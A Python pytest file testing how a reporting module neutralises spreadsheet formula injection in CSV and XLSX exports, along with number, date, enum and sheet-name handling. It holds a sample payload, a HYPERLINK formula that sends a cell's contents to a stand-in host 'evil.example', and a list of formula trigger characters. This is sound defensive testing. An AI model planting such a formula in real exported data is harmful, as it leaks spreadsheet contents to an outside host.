"""The one rule for exported cells (reports/cells.py) and the CSV/XLSX files written with it (reports/files.py)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from enum import StrEnum

import pytest

from app.i18n import Message, translations
from app.orders.states import OrderStatus, PaymentStatus
from reports.cells import FORMULA_TRIGGERS, berlin_time, cell, cell_text, csv_cell, neutralise
from reports.files import csv_bytes, sheet_name, xlsx_bytes
from tests.spreadsheets import xlsx_cells

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
def test_text_starting_with_a_formula_trigger_gets_a_leading_quote(trigger):
    assert csv_cell(f"{trigger}1+1") == f"'{trigger}1+1"


def test_the_triggers_are_the_owasp_ones():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_a_hyperlink_formula_as_a_customer_name_is_neutralised():
    assert csv_cell(HYPERLINK) == "'" + HYPERLINK


@pytest.mark.parametrize("text", ["Anna Müller", "café 'lindenblatt'", " =1+1", "1=1", "", "SMP-2026-000001", "a\n=1"])
def test_text_that_does_not_start_with_a_trigger_is_unchanged(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (Decimal("-5.00"), "-5.00"),
        (Decimal("49.90"), "49.90"),
        (Decimal("1E+3"), "1000"),
        (Decimal("0.00001"), "0.00001"),
        (-3, "-3"),
        (0, "0"),
        (1_000_000, "1000000"),
        (-2.5, "-2.5"),
    ],
)
def test_numbers_stay_plain_numbers_even_when_negative(value, shown):
    assert cell(value) == value
    assert csv_cell(value) == shown


def test_a_negative_number_is_a_number_but_the_same_text_is_neutralised():
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell("-12.50") == "'-12.50"


@pytest.mark.parametrize("value", [Decimal("NaN"), Decimal("-Infinity"), float("-inf"), float("nan")], ids=str)
def test_what_is_no_finite_number_goes_out_as_neutralised_text(value):
    assert isinstance(cell(value), str)
    assert not cell_text(cell(value)).startswith(FORMULA_TRIGGERS)


def test_null_is_an_empty_cell_never_none():
    assert cell(None) is None
    assert csv_cell(None) == ""


def test_booleans_are_true_and_false():
    assert cell(True) is True
    assert (csv_cell(True), csv_cell(False)) == ("true", "false")


def test_times_are_berlin_wall_clock_time_without_microseconds():
    summer = datetime(2026, 7, 1, 10, 30, 15, 987654, tzinfo=UTC)
    winter = datetime(2026, 12, 1, 10, 30, 15, tzinfo=UTC)
    assert csv_cell(summer) == "2026-07-01 12:30:15"
    assert csv_cell(winter) == "2026-12-01 11:30:15"
    assert cell(summer) == datetime(2026, 7, 1, 12, 30, 15)


def test_a_time_in_another_zone_is_converted_and_a_naive_one_kept():
    new_york = timezone(timedelta(hours=-5))
    assert csv_cell(datetime(2026, 12, 1, 6, 0, tzinfo=new_york)) == "2026-12-01 12:00:00"
    assert berlin_time(datetime(2026, 12, 1, 6, 0, 0, 5)) == datetime(2026, 12, 1, 6, 0)


def test_dates_are_iso_dates():
    assert cell(date(2026, 11, 30)) == date(2026, 11, 30)
    assert csv_cell(date(2026, 11, 30)) == "2026-11-30"


def test_a_state_reads_as_its_label_in_the_requested_language():
    german = translations("de").gettext
    assert csv_cell(OrderStatus.PENDING_PAYMENT) == "pending payment"
    assert csv_cell(PaymentStatus.PAID) == "paid"
    assert csv_cell(OrderStatus.PENDING_PAYMENT, german) == german("pending payment")
    assert csv_cell(OrderStatus.PENDING_PAYMENT, german) != "pending payment"


def test_an_enum_outside_the_state_tables_reads_as_its_value_in_words():
    class Basis(StrEnum):
        PER_1000 = "per_1000"

    assert csv_cell(Basis.PER_1000) == "per 1000"


def test_an_enum_whose_label_is_a_formula_is_neutralised():
    class Hostile(StrEnum):
        FORMULA = "=1+1"

    assert csv_cell(Hostile.FORMULA) == "'=1+1"


def test_a_message_is_translated_and_neutralised():
    assert csv_cell(Message("=%(x)s", {"x": 1})) == "'=1"


def test_json_values_are_json_text_with_the_payload_inside():
    shown = csv_cell({"name": {"before": "Anna", "after": HYPERLINK}})
    assert shown.startswith("{")
    assert "evil.example" in shown
    assert csv_cell(["=1", 2]) == '["=1", 2]'


def test_neutralise_only_prefixes_text():
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\rcmd") == "'\rcmd"


# -- files -----------------------------------------------------------------------------------------------------

ROWS = [
    [HYPERLINK, Decimal("-5.00"), None, datetime(2026, 7, 1, 10, 0, 0, 1, tzinfo=UTC), OrderStatus.PAID, True],
    ["Anna", 3, "", date(2026, 1, 2), None, False],
]
HEADER = ["Name", "Amount", "Note", "When", "Status", "Active"]


def test_the_csv_file_applies_the_rule_to_every_cell():
    text = csv_bytes(HEADER, ROWS).decode("utf-8")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed == [
        HEADER,
        ["'" + HYPERLINK, "-5.00", "", "2026-07-01 12:00:00", "paid", "true"],
        ["Anna", "3", "", "2026-01-02", "", "false"],
    ]
    assert "None" not in text


def test_a_header_that_would_be_a_formula_is_neutralised_too():
    assert csv_bytes(["=A1"], []).decode() == "'=A1\r\n"


def test_the_xlsx_file_has_typed_cells_and_no_formula():
    rows, sheet_xml = xlsx_cells(xlsx_bytes(HEADER, ROWS, title="Orders"))
    assert "<f>" not in sheet_xml
    assert rows[0] == [("s", title) for title in HEADER]
    name, amount, when, status, active = rows[1]  # the NULL note is no cell at all
    assert name == ("s", "'" + HYPERLINK)
    assert amount == ("n", "-5")
    assert when[0] == "n"
    assert float(when[1]) == pytest.approx(46204.5)  # 2026-07-01 12:00 Berlin as an Excel serial date
    assert status == ("s", "paid")
    assert active == ("b", "1")
    assert rows[2][1] == ("n", "3")


def test_the_xlsx_sheet_is_named_after_the_list():
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(HEADER, [], title="Orders"))) as archive:
        assert re.search(r'<sheet name="Orders"', archive.read("xl/workbook.xml").decode())


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Orders", "Orders"),
        ("a/b:c*d?e[f]g\\h", "a b c d e f g h"),
        ("x" * 40, "x" * 31),
        ("'", "Export"),
        ("", "Export"),
    ],
)
def test_sheet_names_are_ones_excel_accepts(title, name):
    assert sheet_name(title) == name
